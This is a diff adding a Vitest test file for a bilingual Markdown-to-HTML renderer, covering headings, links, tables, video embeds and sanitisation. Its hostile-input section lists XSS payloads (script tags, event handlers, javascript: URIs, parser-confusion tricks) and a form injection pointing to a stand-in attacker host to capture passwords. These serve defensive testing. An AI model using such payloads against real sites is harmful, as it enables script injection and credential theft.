@@ -1,0 +1,170 @@
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { renderBody } from "@/lib/data/content/render-body";
+
+const htmlOf = (source: string | null, locale: "fr" | "en" = "fr") =>
+  renderBody(source, locale)
+    .blocks.map((block) => (block.kind === "html" ? block.html : `[${block.title}]`))
+    .join("\n");
+
+describe("a text of the editors", () => {
+  test("is Markdown, with HTML where they wrote some", () => {
+    expect(htmlOf("Un **texte** et\n\n- une liste\n\n<p>du HTML</p>")).toBe(
+      "<p>Un <strong>texte</strong> et</p>\n<ul>\n<li>une liste</li>\n</ul>\n<p>du HTML</p>",
+    );
+  });
+
+  test("has a table of contents; a title of its own lies under the page's", () => {
+    const { blocks, headings } = renderBody("# Un\n\n## Deux & trois\n\n### Détail\n\n## Un\n\n#### Bas", "fr");
+    expect(headings).toEqual([
+      { id: "s-un", text: "Un", level: 2 },
+      { id: "s-deux-trois", text: "Deux & trois", level: 2 },
+      { id: "s-detail", text: "Détail", level: 3 },
+      { id: "s-un-2", text: "Un", level: 2 },
+    ]);
+    expect(blocks).toEqual([{ kind: "html", html: expect.stringContaining('<h2 id="s-un">Un</h2>') }]);
+  });
+
+  test("a block of code, which may scroll, is within reach of the keyboard, and nothing else is", () => {
+    expect(htmlOf('```\nGET /\n```\n\n<p tabindex="3">x</p>')).toBe(
+      '<pre tabindex="0"><code>GET /\n</code></pre>\n<p>x</p>',
+    );
+  });
+
+  test("in French, keeps double signs to their word, but in code", () => {
+    expect(htmlOf("Un prix : 42 000 €, `a : b`")).toBe("<p>Un prix\u202f: 42\u202f000\u202f€, <code>a : b</code></p>");
+    expect(htmlOf("A price : 42", "en")).toBe("<p>A price : 42</p>");
+  });
+
+  test("headings never share an id, not even with one that looks numbered", () => {
+    const { headings } = renderBody("## A 2\n\n## A\n\n## A\n\n## A 2\n\n## !\n\n## ?", "fr");
+    const ids = headings.map(({ id }) => id);
+    expect(new Set(ids).size).toBe(6);
+  });
+
+  test("links lead inside the locale, or to the language that the editor chose", () => {
+    expect(htmlOf("[a](/aide/cv)", "en")).toContain('href="/en/aide/cv"');
+    expect(htmlOf("[a](/aide/cv)")).toContain('href="/aide/cv"');
+    expect(htmlOf("[a](/fr/media/blog/x)", "en")).toContain('href="/media/blog/x" hreflang="fr"');
+    expect(htmlOf("[a](/en)", "fr")).toContain('href="/en" hreflang="en"');
+    expect(htmlOf("[a](https://exemple.fr)")).toContain('href="https://exemple.fr" rel="noopener"');
+  });
+
+  test("headers of a table say that they are its columns'", () => {
+    expect(htmlOf("| A |\n| - |\n| 1 |")).toContain('<th scope="col">A</th>');
+  });
+
+  test("a table that scrolls is within reach of the keyboard", () => {
+    expect(htmlOf("| A |\n| - |\n| 1 |")).toContain('<table tabindex="0">');
+  });
+
+  test("a column of figures stands on the right", () => {
+    const table = htmlOf("| A | B |\n| - | -: |\n| a | 1 |");
+    expect(table).toContain('<th scope="col" class="figures-cell">B</th>');
+    expect(table).toContain('<td>a</td>\n<td class="figures-cell">1</td>');
+  });
+
+  test("holds nothing that a page or a feed cannot", () => {
+    expect(htmlOf("un\0deux\u0008trois\ud800quatre 😀")).toBe("<p>un deux trois quatre 😀</p>");
+  });
+
+  test("is read at 200 words a minute", () => {
+    expect(renderBody("mot ".repeat(1000), "fr").minutes).toBe(5);
+    expect(renderBody("", "fr")).toEqual({ blocks: [], headings: [], minutes: 1 });
+  });
+});
+
+describe("a video", () => {
+  test("is a line of its own, between two parts of the text", () => {
+    const body = renderBody("Avant\n\n::video[Le bilan](https://youtu.be/dQw4w9WgXcQ)\n\nAprès", "fr");
+    expect(body.blocks.map(({ kind }) => kind)).toEqual(["html", "video", "html"]);
+    expect(body.blocks[1]).toMatchObject({ title: "Le bilan", host: "YouTube" });
+  });
+
+  test("of another host is not shown", () => {
+    expect(htmlOf("::video[Le bilan](https://evil.example/embed/dQw4w9WgXcQ)")).toBe("");
+  });
+
+  test("inside of a sentence is text", () => {
+    expect(htmlOf("Écrire ::video[a](https://youtu.be/dQw4w9WgXcQ)")).toContain("::video");
+  });
+});
+
+const HOSTILE = [
+  "<script>alert(1)</script>",
+  "<script",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)><script>alert(1)</script></svg>",
+  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+  "[a](javascript:alert(1))",
+  "[a](java\nscript:alert(1))",
+  "[a](&#106;avascript:alert(1))",
+  "[a](data:text/html,<script>alert(1)</script>)",
+  "![a](x' onerror='alert(1))",
+  "<a href=' javascript:alert(1)'>a</a>",
+  "<p style='position:fixed' onclick=alert(1) id=main class=x>a</p>",
+  "<style>*{display:none}</style>",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<h2 id='main' onmouseover=alert(1)>a</h2>",
+  "## a <script>alert(1)</script>",
+  '::video["><script>alert(1)</script>](https://youtu.be/dQw4w9WgXcQ)',
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+  "<textarea></textarea><script>alert(1)</script>",
+  "<!--><script>alert(1)</script>-->",
+  "</div></main><form action=//evil.example><input name=password>",
+  "```<script>alert(1)</script>```",
+  "<b><i><h3>",
+];
+/** Only tags of the allow-list, each with attributes of its own: no handler, no style, no other scheme. */
+const TAG =
+  /^<\/?(p|br|hr|h[2345]|ul|ol|li|blockquote|strong|em|[abius]|sub|sup|code|pre|table|caption|thead|tbody|tr|th|td|d[ltd])( (href="(?!\s*(javascript|data|vbscript):)[^"]*"|rel="noopener"|hreflang="(fr|en)"|id="s-[^"]*"|class="figures-cell"|tabindex="0"|scope="[^"]*"|(col|row)span="[^"]*"|start="[^"]*"))*( \/)?>$/i;
+const expectSafe = (html: string) => {
+  for (const [tag] of html.matchAll(/<[^>]*>?/g)) expect(tag).toMatch(TAG);
+};
+const safeHtmlOf = (source: string) =>
+  renderBody(source, "fr").blocks.flatMap((block) => (block.kind === "html" ? block.html : []));
+
+describe("a hostile text", () => {
+  test.each(HOSTILE)("%j leaves nothing that acts", (source) => {
+    for (const html of safeHtmlOf(source)) expectSafe(html);
+  });
+
+  test("leaves nothing that acts, however its parts are put together", { timeout: 30_000 }, () => {
+    const part = fc.oneof(
+      fc.constantFrom(...HOSTILE, "\n\n", "- ", "> ", "`", "*", "[", "](", '"', "&#x6a;", "\0"),
+      fc.string(),
+    );
+    fc.assert(
+      fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
+        for (const html of safeHtmlOf(parts.join(""))) expectSafe(html);
+      }),
+    );
+  });
+
+  test.each([
+    ["[", 1],
+    ["![", 2],
+    ["*a ", 3],
+    ["_a", 2],
+    ["__a", 3],
+    ["a", 1],
+    ["a.", 2],
+    ["`", 1],
+    ["<", 1],
+    ["<a ", 3],
+    [">", 1],
+    ["- ", 2],
+    ["# a\n", 4],
+    ["<p><b>", 6],
+    ["<h2>", 4],
+    ["[a](b", 5],
+    ["::video[", 8],
+    ["| a ", 4],
+    ["www.", 4],
+  ])("of 50,000 characters made of %j is read in time", { timeout: 30_000 }, (part, length) => {
+    // Of the processor, not of the clock: other tests run at the same time.
+    const before = process.cpuUsage();
+    renderBody(`${part.repeat(50_000 / length)}@`, "fr");
+    expect(process.cpuUsage(before).user / 1_000).toBeLessThan(3_000);
+  });
+});
